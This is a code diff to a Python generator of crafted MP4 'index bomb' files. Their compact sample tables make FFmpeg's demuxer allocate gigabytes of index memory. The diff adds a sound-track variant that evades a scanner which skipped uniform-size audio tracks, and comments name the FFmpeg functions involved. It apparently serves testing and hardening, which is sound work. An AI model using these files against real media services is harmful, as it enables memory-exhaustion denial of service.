@@ -18,6 +18,8 @@ By default the files are written next to this script:
                         per-sample fields (size/duration/flags come from tfhd defaults).
                         mov_read_trun() grows index_entries (24 B) *and* ctts_data (8 B)
                         per sample: ~2.9 GB RSS.
+  index_bomb_sound.mp4  the same 16 tracks as index_bomb_multi, labelled sound (hdlr soun) with an stts delta
+                        of 1024: still indexed per sample.
   index_bomb_multi.mp4  16 tracks x 5,500,000 samples.  Each track's index is 132 MB, which
                         fits under av_max_alloc(128 MiB) and av_max_alloc(256 MiB), so a
                         per-allocation cap does not stop it: ~2.1 GB in total.
@@ -110,8 +112,9 @@ def mdhd(duration):
     return full_box("mdhd", 1, 0, struct.pack(">QQIQHH", 0, 0, TIMESCALE, duration, 0x55C4, 0))
 
 
-def hdlr():
-    return full_box("hdlr", 0, 0, struct.pack(">I4s", 0, b"vide"), b"\0" * 12, b"VideoHandler\0")
+def hdlr(kind=b"vide"):
+    name = b"VideoHandler\0" if kind == b"vide" else b"SoundHandler\0"
+    return full_box("hdlr", 0, 0, struct.pack(">I4s", 0, kind), b"\0" * 12, name)
 
 
 def dinf():
@@ -134,7 +137,7 @@ def stsd():
     return full_box("stsd", 0, 0, struct.pack(">I", 1), entry)
 
 
-def stbl(n_samples, chunk_offset, ctts=False):
+def stbl(n_samples, chunk_offset, ctts=False, delta=1):
     """Sample tables for one track claiming n_samples samples, all in ONE chunk.
 
     Every table is O(1) in size regardless of n_samples - that is the whole trick:
@@ -152,7 +155,7 @@ def stbl(n_samples, chunk_offset, ctts=False):
     """
     tables = [
         stsd(),
-        full_box("stts", 0, 0, struct.pack(">III", 1, n_samples, 1)),
+        full_box("stts", 0, 0, struct.pack(">III", 1, n_samples, delta)),
     ]
     if ctts:
         # One ctts run covering every sample. mov_build_index() expands ctts to one entry
@@ -175,14 +178,14 @@ def empty_stbl():
                full_box("stco", 0, 0, struct.pack(">I", 0)))
 
 
-def trak(track_id, n_samples, table, movie_duration_ms, elst=False):
+def trak(track_id, n_samples, table, movie_duration_ms, elst=False, kind=b"vide"):
     parts = [tkhd(track_id, movie_duration_ms)]
     if elst:
         # One edit covering the whole (claimed) track from media time 0. With FFmpeg's
         # default advanced_editlist=1, mov_fix_index() builds a second index by copying
         # every entry (add_index_entry doubles its buffer) while the old one is still alive.
         parts.append(box("edts", full_box("elst", 1, 0, struct.pack(">IQqhh", 1, movie_duration_ms, 0, 1, 0))))
-    parts.append(box("mdia", mdhd(n_samples), hdlr(),
+    parts.append(box("mdia", mdhd(n_samples), hdlr(kind),
                      box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), table)))
     return box("trak", *parts)
 
@@ -194,9 +197,10 @@ def ms(n_samples):
 # ---------------------------------------------------------------------------------------
 # File builders. Layout: ftyp, moov, mdat (moov first, so the chunk offset is known once
 # the moov size is; the offset field has a fixed width, so building twice is exact).
-def plain_bomb(n_samples, tracks=1, elst=False, ctts=False):
+def plain_bomb(n_samples, tracks=1, elst=False, ctts=False, kind=b"vide", delta=1):
     def build(offset):
-        traks = [trak(t + 1, n_samples, stbl(n_samples, offset, ctts=ctts), ms(n_samples), elst=elst)
+        traks = [trak(t + 1, n_samples, stbl(n_samples, offset, ctts=ctts, delta=delta), ms(n_samples), elst=elst,
+                      kind=kind)
                  for t in range(tracks)]
         return ftyp() + box("moov", mvhd(ms(n_samples), tracks + 1), *traks)
 
@@ -245,6 +249,10 @@ def main():
         "index_bomb.mp4": plain_bomb(BOMB_SAMPLES),
         "index_bomb_frag.mp4": frag_bomb(BOMB_SAMPLES),
         "index_bomb_multi.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS),
+        # Sound tracks of a uniform sample size: FFmpeg indexes those per chunk only when stts is one entry of
+        # duration 1 (old uncompressed audio); with a duration of 1024 it indexes every claimed sample (found in
+        # review: a scan that skipped every uniform-size sound track let this through, 2.1 GB).
+        "index_bomb_sound.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS, kind=b"soun", delta=1024),
     }
     if args.extra:
         files.update({
